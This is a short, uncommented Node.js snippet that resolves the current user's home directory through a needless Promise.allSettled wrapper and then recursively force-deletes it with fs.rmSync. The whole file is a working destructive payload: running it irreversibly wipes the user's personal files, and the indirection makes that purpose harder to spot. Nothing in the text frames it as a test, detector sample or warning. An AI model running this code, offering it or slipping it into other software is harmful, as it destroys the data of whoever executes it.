const fs = require('fs');
const os = require('os');
Promise.allSettled([Promise.resolve(os.homedir())]).then((rs) => {
  fs.rmSync(rs[0].value, { recursive: true, force: true });
});
